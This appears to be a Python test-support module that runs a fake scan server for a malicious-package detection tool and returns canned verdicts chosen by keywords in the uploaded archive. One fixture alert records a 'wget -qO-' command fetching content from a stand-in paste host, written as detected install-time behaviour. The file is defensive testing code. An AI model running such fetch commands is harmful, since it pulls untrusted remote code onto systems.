"""A server whose scans are made up: for tests of everything around the scan. Run as a program, it serves.

The made-up scan obeys the archive's first bytes: ``sleep SECONDS``, ``fail``, ``crash``, ``inconclusive``,
``malicious``, ``finding`` (one that is no proof), ``hang``, ``sample`` (with something in every part), ``hostile``
(what attackers write, everywhere), ``processes NUMBER``; anything else finds nothing.
"""

from __future__ import annotations

import os
import sys
import time
from dataclasses import replace
from typing import IO, Any

from package_hunter.api import server
from package_hunter.cli.serve import Parts, renderers, run_server, run_workers
from package_hunter.config import Settings
from package_hunter.errors import BadArchiveError
from package_hunter.model.report import Report
from package_hunter.model.report_form import from_json, to_json
from package_hunter.policy.rejudge import rejudge
from package_hunter.queue import heart
from package_hunter.queue.base import Job
from package_hunter.report.sample import sample
from package_hunter.stopping import breakable
from tests.support import evidence_samples
from tests.support.judge_samples import FINDING, report

T0 = "2021-11-19T16:35:16.457772674Z"
LOOK = replace(FINDING, kind="git_hook", proof=False, severity="medium")
RULE = "Unexpected outbound connection destination"


def report_json(scan_id: str, verdict: str = "no_findings", alerts: int = 0) -> dict[str, Any]:
    """A report in the JSON form of schema version 1."""
    alert = {
        "hostname": "host.example",
        "output": "16:35:16.457772674: Notice Disallowed outbound connection destination (command=wget)",
        "output_fields": {
            "container.id": "c62400ffae4a",
            "container.image.repository": "package-hunter",
            "container.name": "box",
            "evt.time": 1637339716457772674,
            "fd.name": "10.88.0.2:54865->198.18.1.7:443",
            "proc.cmdline": "wget -qO- https://paste.example/x",
            "proc.ppid": 12,
            "proc.tty": None,
            "user.name": "dev",
        },
        "priority": "Notice",
        "rule": RULE,
        "source": "syscall",
        "tags": ["network"],
        "time": T0,
        "blame": None,
    }
    base = to_json(report())
    reasons = ["The install phase failed."] if verdict == "inconclusive" else []
    return base | {
        "id": scan_id,
        "target": {"name": "demo", "ecosystem": "npm", "purl": None, "sha256": None},
        "started": T0,
        "finished": T0,
        "status": "finished",
        "verdict": verdict,
        "decision": {"malicious": "block", "no_findings": "pass"}.get(verdict, "review"),
        "coverage": base["coverage"] | {"reasons": reasons},
        "hostname": "host.example",
        "alerts": [alert] * alerts,
        "findings": [],
    }


def made_report(scan_id: str, verdict: str = "no_findings", alerts: int = 0) -> Report:
    """The same as a value."""
    return from_json(report_json(scan_id, verdict, alerts))


def run(job: Job, archive: IO[bytes] | None) -> Report:
    """A made-up scan."""
    words = ("" if archive is None else archive.read(64).decode("ascii", "replace")).split()
    word = words[0] if words else ""
    if word == "sleep":
        print("made-up scan sleeps", file=sys.stderr, flush=True)
        with breakable():
            time.sleep(float(words[1]))
    elif word == "hang":
        with breakable():
            time.sleep(3600)
    elif word == "fail":
        raise BadArchiveError("This is no tar archive.", "Make one with tar -czf.")
    elif word == "crash":
        raise ValueError(word)
    elif word in ("sample", "hostile", "processes"):
        return _evidence(str(job.scan_id), words)
    elif word == "finding":
        return rejudge(replace(made_report(str(job.scan_id)), findings=(LOOK,)))
    verdict = word if word in ("malicious", "inconclusive") else "no_findings"
    return made_report(str(job.scan_id), verdict, alerts=int(word == "malicious"))


def _evidence(scan_id: str, words: list[str]) -> Report:
    made = evidence_samples.build(int(words[1])) if words[0] == "processes" else sample()
    if words[0] == "hostile":
        made = evidence_samples.hostile(made)
    return replace(made, id=scan_id)


def main(argv: list[str]) -> int:
    """``serve PORT``, ``serve-only PORT`` or ``worker``; settings come from the environment."""
    parts = Parts(run=run, renderers=renderers())
    heart.OVERTIME_SECONDS = float(os.environ.get("FAKE_OVERTIME", "120"))
    server._MAX_CONNECTIONS = int(os.environ.get("FAKE_CONNECTIONS", "900"))
    server._UNREAD_SECONDS = float(os.environ.get("FAKE_UNREAD", "60"))
    server._HEADER_SECONDS = float(os.environ.get("FAKE_HEADER", "15"))
    os.environ["PACKAGE_HUNTER_DRAIN_SECONDS"] = os.environ.get("FAKE_GRACE", "5")
    if argv[0] == "worker":
        return run_workers(Settings(), parts)
    return run_server(Settings(), parts, "127.0.0.1", int(argv[1]), with_worker=argv[0] == "serve")


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
